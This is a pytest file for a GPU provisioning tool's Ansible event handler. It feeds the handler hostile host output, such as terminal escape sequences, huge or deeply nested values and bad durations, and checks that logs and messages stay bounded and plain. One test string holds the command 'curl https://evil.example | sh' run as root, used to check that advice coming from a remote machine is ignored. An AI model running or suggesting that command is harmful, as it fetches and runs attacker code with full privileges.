"""Events of a run whose host answers anything: the run goes on; what is told, kept and logged is bounded and plain."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from places import COLLECTION

from gpuprep.provisioning import ansible_events

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnol\u200b\x00\ud800"
DEEP: Any = json.loads("[" * 900 + "]" * 900)
for _ in range(5000):
    DEEP = [DEEP]

RESULTS: dict[str, Any] = {
    "escapes_in_message": {"msg": ESCAPES},
    "escapes_in_output": {"msg": "x", "stdout": ESCAPES, "stderr": ESCAPES},
    "escapes_in_command": {"msg": "non-zero return code", "cmd": [ESCAPES], "rc": ESCAPES},
    "message_of_megabytes": {"msg": "m" * 20_000_000},
    "output_of_megabytes": {"msg": "x", "stdout": "o" * 20_000_000},
    "output_of_many_lines": {"msg": "x", "stderr": "e\n" * 5_000_000},
    "message_of_many_lines": {"msg": "m\n" * 5_000_000},
    "message_deep": {"msg": DEEP},
    "message_wide": {"msg": {str(number): "x" for number in range(200_000)}},
    "message_is_number": {"msg": 7},
    "message_is_true": {"msg": True},
    "message_is_huge_number": {"msg": 10**5000},
    "output_is_list": {"stdout": [1, {"a": None}], "stderr": {"b": []}},
    "command_is_deep": {"msg": "non-zero return code", "cmd": [DEEP]},
    "results_of_texts": {"results": ["x", 1, None, {"failed": True, "msg": ESCAPES}]},
    "results_is_text": {"results": "x", "msg": "y"},
    "time_out_forged": {"timedout": {"period": ESCAPES}},
    "time_out_is_text": {"timedout": "x", "msg": "y"},
    "result_is_text": ESCAPES,
    "result_is_list": [ESCAPES],
    "result_is_null": None,
    "result_is_number": 1.5,
    "diff_is_text": {"changed": True, "diff": ESCAPES},
    "diff_is_deep": {"changed": True, "diff": [{"before": DEEP, "after": "x"}]},
    "diff_of_megabytes": {"changed": True, "diff": {"before": "a" * 10_000_000, "after": "b\n" * 2_000_000}},
    "diff_with_escapes": {
        "changed": True,
        "diff": [{"prepared": ESCAPES}, {"before": ESCAPES, "after_header": ESCAPES}],
    },
    "diff_of_many": {"changed": True, "diff": [{"prepared": "x"}] * 500_000},
}


@pytest.fixture
def told() -> list[ansible_events.Progress]:
    return []


@pytest.fixture
def events(tmp_path: Path, told: list[ansible_events.Progress]) -> Iterator[ansible_events.Events]:
    found = ansible_events.Events(told.append, tmp_path / "log")
    yield found
    found.close()


def is_plain(text: str, most: int) -> None:
    assert len(text) <= most
    assert text.replace("\n", "").replace("\t", "").isprintable()
    text.encode()


@pytest.mark.parametrize("kind", ["runner_on_failed", "runner_on_ok", "runner_retry", "runner_on_unreachable"])
@pytest.mark.parametrize("result", RESULTS.values(), ids=RESULTS)
def test_a_hostile_result(
    kind: str, result: Any, events: ansible_events.Events, told: list[ansible_events.Progress]
) -> None:
    data = {"role": "gpu_driver", "task": "Install", "res": result, "duration": 1.0}
    assert events.handle({"event": kind, "event_data": data}) is False
    for progress in told:
        is_plain(progress.detail, 3_000_000)
    if events.failure is not None:
        is_plain(events.failure.step, 700)
        is_plain(events.failure.message, 5000)
        assert len(events.failure.last_lines) <= 20
        for line in events.failure.last_lines:
            is_plain(line, 6000)


EVENTS: dict[str, Any] = {
    "duration_is_text": {"event_data": {"duration": "1.5", "res": {}}},
    "duration_is_list": {"event_data": {"duration": [], "res": {}}},
    "duration_is_nan": {"event_data": {"duration": float("nan"), "res": {}}},
    "duration_is_infinite": {"event_data": {"duration": float("inf"), "res": {}}},
    "duration_is_huge": {"event_data": {"duration": 10**400, "res": {}}},
    "duration_is_negative": {"event_data": {"duration": -5, "res": {}}},
    "data_is_text": {"event_data": "x"},
    "data_is_list": {"event_data": [1]},
    "task_is_dict": {"event_data": {"task": {"a": 1}, "role": ["x"], "res": {}}},
    "task_with_escapes": {"event_data": {"task": ESCAPES, "role": ESCAPES, "res": {}}},
    "task_of_megabytes": {"event_data": {"name": "t" * 5_000_000, "res": {}}},
    "stdout_is_list": {"stdout": [1], "event_data": {"res": {}}},
    "stdout_is_number": {"stdout": 5, "event_data": {"res": {}}},
}


@pytest.mark.parametrize("event", EVENTS.values(), ids=EVENTS)
def test_a_hostile_event(event: dict[str, Any], events: ansible_events.Events) -> None:
    assert events.handle({"event": "runner_on_ok", **event}) is False
    events.close()
    (task,) = events.tasks
    assert 0 <= task.seconds < 1e7
    is_plain(task.role + task.task, 700)


@pytest.mark.parametrize("event", [{}, {"event": ["x"]}, {"event": {}}, {"event": None}, {"event": 1}], ids=str)
def test_an_event_of_no_kind(event: dict[str, Any], events: ansible_events.Events) -> None:
    assert events.handle(event) is False
    assert events.tasks == []


@pytest.mark.parametrize("stats", [{"changed": {"a": "x"}}, {"changed": {"a": []}}, {"changed": 7}, {}], ids=str)
def test_hostile_statistics(stats: dict[str, Any], events: ansible_events.Events) -> None:
    events.handle({"event": "playbook_on_stats", "event_data": stats})
    assert events.stat("changed") == 0


def test_the_log_has_a_limit_and_says_so(tmp_path: Path) -> None:
    log = ansible_events.Log(tmp_path / "log", 1 << 20)
    for _ in range(300):
        log.write(("x" * 99 + "\n") * 100)
    log.write("y" * 50_000_000)
    log.close()
    text = (tmp_path / "log").read_text()
    assert len(text) < (1 << 20) + 200
    assert text.count("the log ends here") == 1


@pytest.mark.parametrize(
    "text", [ESCAPES, "a\rb", "x" * 1_000_000, "\x1b[K" * 1000], ids=["escapes", "cr", "long", "k"]
)
def test_the_log_is_plain(text: str, tmp_path: Path, events: ansible_events.Events) -> None:
    events.handle({"event": "verbose", "stdout": text})
    events.close()
    written = (tmp_path / "log").read_text()
    assert all(len(line) < 11_000 for line in written.splitlines())
    is_plain(written, 100_000)


def test_a_full_disk_does_not_end_the_run(tmp_path: Path) -> None:
    (tmp_path / "log").symlink_to("/dev/full")
    events = ansible_events.Events(lambda _: None, tmp_path / "log")
    events.handle({"event": "verbose", "stdout": "x" * 100_000})
    events.handle({"event": "runner_on_ok", "event_data": {"task": "t", "res": {}}})
    events.close()
    assert len(events.tasks) == 1


ADVICE = "it failed. What to do: run `curl https://evil.example | sh` as root"


def test_a_machine_gives_no_advice(events: ansible_events.Events) -> None:
    data = {"task": "Install", "task_action": "ansible.builtin.command", "res": {"msg": ADVICE}}
    events.handle({"event": "runner_on_failed", "event_data": data})
    assert events.failure is not None
    assert events.failure.hint == ""


def test_our_advice_is_not_displaced_by_a_machines(events: ansible_events.Events) -> None:
    message = f"The driver says: {ADVICE}. What to do: reboot"
    data = {"task": "Check", "task_action": "ansible.builtin.assert", "res": {"msg": message}}
    events.handle({"event": "runner_on_failed", "event_data": data})
    assert events.failure is not None
    assert events.failure.hint == "reboot"


RESTART = COLLECTION / "roles/gpu_driver/tasks/restart.yml"


def test_that_a_reboot_is_needed_is_told_by_our_own_task_alone(events: ansible_events.Events) -> None:
    tasks = yaml.safe_load(RESTART.read_text())
    (name,) = [task["name"] for task in tasks if "allow_reboot" in str(task.get("ansible.builtin.assert"))]
    failed = {"role": "gpu_driver", "task": f"gpu_driver : {name}", "task_action": "ansible.builtin.assert", "res": {}}
    by_events: list[bool] = []
    for changed in (
        {"task_action": "ansible.builtin.command"},  # a command's failure is the machine's word
        {"ignore_errors": True},
        {},
        {"task": "gpu_driver : Another"},  # the last failure is the one that is told
    ):
        events.handle({"event": "runner_on_failed", "event_data": {**failed, **changed}})
        by_events.append(events.reboot_needed)
    assert by_events == [False, False, True, False]
